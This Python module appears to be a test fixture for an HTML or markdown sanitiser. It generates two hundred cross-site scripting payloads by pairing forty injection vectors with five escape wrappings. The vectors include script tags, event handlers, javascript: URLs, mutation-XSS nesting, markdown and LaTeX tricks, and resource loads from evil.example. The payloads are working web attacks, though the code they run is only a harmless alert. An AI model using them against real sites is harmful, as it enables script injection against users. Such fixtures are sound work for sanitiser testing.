"""Two hundred texts that would do something if a page took them for more than text."""

from __future__ import annotations

import itertools

CODE = "document.title=`pwned`,alert(1)"
_VECTORS = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>", "<body onload={}>",
    "<iframe srcdoc='<script>parent.document.title=1;{}</script>'></iframe>", "<iframe src=javascript:{}></iframe>",
    "<details open ontoggle={}>", "<input autofocus onfocus={}>", "<video><source onerror={}></video>", "<a href=javascript:{}>x</a>",
    "<math><mtext><table><mglyph><style><math><img src onerror={}></style></mglyph></table></mtext></math>",
    "<object data=javascript:{}></object>", "<embed src=javascript:{}>", "<form action=javascript:{}><button autofocus>x</button></form>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>@import '//evil.example/a.css';</style>", "<img src=//evil.example/x.png>", "<audio src=//evil.example/x.ogg autoplay>",
    "<svg><use href='//evil.example/x.svg#x'/></svg>", "<svg><animate onbegin={} attributeName=x dur=1s></svg>",
    "<marquee onstart={}>x</marquee>", "<!--><img src=x onerror={}>-->",
    "<noscript><p title='</noscript><img src=x onerror={}>'></noscript>",
    "<template><script>{}</script></template><img src=x onerror={}>", "<xmp><p title='</xmp><img src=x onerror={}>'></xmp>",
    "[x](javascript:{})", "[x](data:text/html,<script>{}</script>)", "![x](//evil.example/x.png)", "![x](http://evil.example/x.png)",
    "<http://evil.example/>", r"$\text{{<svg/onload={}>}}$", r"$\href{{javascript:{}}}{{x}}$", r"$$\text{{<img src=x onerror={}>}}$$",
    r"$\text{{</mtext></math><script>{}</script>}}$", "`<script>{}</script>`", "{{{{ ''.__class__ }}}}<script>{}</script>", "${{{}}}",
)  # fmt: skip
_WRAPPINGS = ("{}", '">{}', "'>{}", "</textarea></title></script>{}", "\u202e{}")
HOSTILE = tuple(
    wrapping.format(vector.replace("{}", CODE).replace("{{", "{").replace("}}", "}"))
    for vector, wrapping in itertools.product(_VECTORS, _WRAPPINGS)
)
